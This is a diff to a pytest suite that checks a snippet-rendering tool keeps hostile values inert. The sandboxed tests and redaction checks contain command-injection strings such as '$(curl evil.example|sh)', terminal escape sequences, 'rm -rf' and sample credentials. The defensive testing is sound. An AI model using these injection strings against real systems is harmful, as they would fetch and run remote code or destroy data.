@@ -40,6 +40,7 @@ HOSTILE = {
     "ifs-and-redirect": "${IFS}curl${IFS}evil.example${IFS}>pwned 2>&1 <x",
     "look-alikes": "\uff04\uff08curl evil.example\uff09\u01c0sh \u037e rm \uff40id\uff40",
     "line-separators": "a\r\u2028curl evil.example\u2029\x85sh\x0b;rm -rf x",
+    "terminal-escapes": "\x1b]8;;https://evil.example\x07click\x1b]8;;\x07\x1b[2K\x1b[1A$(id)",
     "yaml-breakers": "gpu\n  evil: {injected: true}\n- [x]\n# --- &a *a !!python/object:os.system",
 }
 BENIGN = "benign0"
@@ -192,6 +193,7 @@ class Sandbox:
     def __init__(self, root: Path) -> None:
         self.root, self.bin, self.cwd, self.home = root, root / "bin", root / "cwd", root / "home"
         self.log = root / "argv.log"
+        self._seen: dict[str, tuple[list[list[str]], str]] = {}
         for d in (self.bin, self.cwd, self.home):
             d.mkdir()
         for name in (*OWN_COMMANDS, *TRAPS):
@@ -200,6 +202,12 @@ class Sandbox:
             stub.write_text(f"#!/bin/bash\nr={name}; for a in \"$@\"; do r+=$'\\037'\"$a\"; done\n"
                             f"printf '%s\\036' \"$r\" >> '{self.log}'\n")
             stub.chmod(0o755)
+
+    def run_once(self, script: str) -> tuple[list[list[str]], str]:
+        """``run``, remembered: the benign snippet is the same for every hostile value."""
+        if script not in self._seen:
+            self._seen[script] = self.run(script)
+        return self._seen[script]
 
     def run(self, script: str) -> tuple[list[list[str]], str]:
         self.log.write_bytes(b"")
@@ -253,7 +261,7 @@ def _commands_in_comments(snippet: str) -> list[str]:
 
 
 def _assert_same_calls(sandbox: Sandbox, benign: str, hostile: str, value: str, what: str) -> int:
-    calls_b, err_b = sandbox.run(benign)
+    calls_b, err_b = sandbox.run_once(benign)
     calls_h, err_h = sandbox.run(hostile)
     assert "command not found" not in err_b + err_h, (what, err_b, err_h)
     for calls in (calls_b, calls_h):
@@ -352,6 +360,8 @@ def test_hostile_values_stay_values(template: str, sandbox: Sandbox) -> None:
             fix_h = render_fix(template, **context)
             what = f"{template} [{label}]"
             assert "\n" not in fix_h.summary and "\r" not in fix_h.summary, what
+            # nothing a terminal would act on: the CLI prints snippets as they are
+            assert "\x1b" not in fix_h.summary + fix_h.snippet and "\x07" not in fix_h.snippet, what
             _assert_placeholders(template, context, fix_h.snippet, language, value)
             if language == "shell":
                 ran += _assert_same_calls(sandbox, fix_b.snippet, fix_h.snippet, value, what)
@@ -366,6 +376,28 @@ def test_hostile_values_stay_values(template: str, sandbox: Sandbox) -> None:
                     ran += _assert_same_calls(sandbox, cmd_b, cmd_h, value, f"{what} comment: {cmd_b}")
     if language == "shell":
         assert ran, f"{template}: the snippet ran no command at all, so the check above proved nothing"
+
+
+# Secrets inside hostile values: redaction runs on the rendered snippet, and masking part of a quoted
+# word must not unbalance its quotes.
+SECRET_BEARING = (
+    "password=hunter2'$(curl evil.example|sh)'",
+    "AKIAIOSFODNN7EXAMPLE'$(curl evil.example)",
+    "https://user:pa'ss$(curl evil.example)@host/",
+    "PGPASSWORD=s3cr3t';curl evil.example;'",
+    "xoxb-123456789012-1234567890123-AbCdEfGhIjKlMnOpQrStUvWx'$(curl evil.example)'",
+)
+
+
+@pytest.mark.parametrize("template", [t for t in template_names() if language_of(t) == "shell"])
+def test_a_redacted_snippet_still_runs_only_its_own_commands(template: str, sandbox: Sandbox) -> None:
+    from playbooks.redact import redact
+
+    for value in SECRET_BEARING:
+        for context in contexts(template, value):
+            snippet = redact(render_fix(template, **context).snippet)
+            calls, _ = sandbox.run(snippet)
+            assert not {c[0] for c in calls} & set(TRAPS), (template, value, snippet)
 
 
 def test_a_kind_checked_value_becomes_a_placeholder_with_the_reason() -> None:
